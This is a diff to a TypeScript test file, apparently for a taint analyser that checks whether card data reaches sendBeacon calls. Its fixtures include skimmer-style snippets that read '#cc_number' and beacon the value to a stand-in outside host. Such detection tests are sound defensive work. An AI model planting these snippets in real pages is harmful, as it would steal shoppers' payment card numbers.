@@ -162,3 +162,42 @@ describe('a URL given to an element jQuery makes from markup', () => {
     expect(kinds(source)).toEqual([])
   })
 })
+
+describe('what a call gives back', () => {
+  // what kinds of data reach the body of the beacon to `to`
+  const beaconTaint = (source: string, to: string): string[] => {
+    const sink = factsOf(source).sinks.find((s) => s.kind === 'beacon' && s.urlText === to)
+    if (!sink) throw new Error(`no beacon to ${to}`)
+    return [...new Set(sink.data.flatMap((n) => [...sink.layer.taint(n)]))].sort()
+  }
+  const card = `var pan=document.querySelector('#cc_number').value;`
+  const OWN = '/own'
+  const FAR = 'https://x.example.test/c'
+
+  it("is a request's answer, not what the request carried", () => {
+    const source =
+      card +
+      `var res=fetch('https://pay.example.test/t',{method:'POST',body:pan});` +
+      `navigator.sendBeacon('${OWN}',JSON.stringify({r:res}))`
+    expect(beaconTaint(source, OWN)).not.toContain('value')
+  })
+
+  it('is what a local function returns, not every argument it was handed', () => {
+    const source =
+      card +
+      `function token(p,n){var r=fetch('https://pay.example.test/t',{method:'POST',body:p});return r}` +
+      `navigator.sendBeacon('${OWN}',JSON.stringify({t:token(pan,1)}))`
+    expect(beaconTaint(source, OWN)).not.toContain('value')
+  })
+
+  it.each([
+    ['returned through a plain parameter', 'function f(x){return x}', 'f(pan)'],
+    ['read through arguments', 'function f(){return arguments[0]}', 'f(pan)'],
+    ['read through a rest parameter', 'function f(...xs){return xs[0]}', 'f(pan)'],
+    ['read through a destructured parameter', 'function f({a}){return a}', 'f({a:pan})'],
+    ['spread into the call', 'function f(x){return x}', 'f(...[pan])'],
+  ])('still carries an argument %s', (_how, fn, call) => {
+    const source = `${card}${fn}navigator.sendBeacon('${FAR}',${call})`
+    expect(beaconTaint(source, FAR)).toContain('value')
+  })
+})
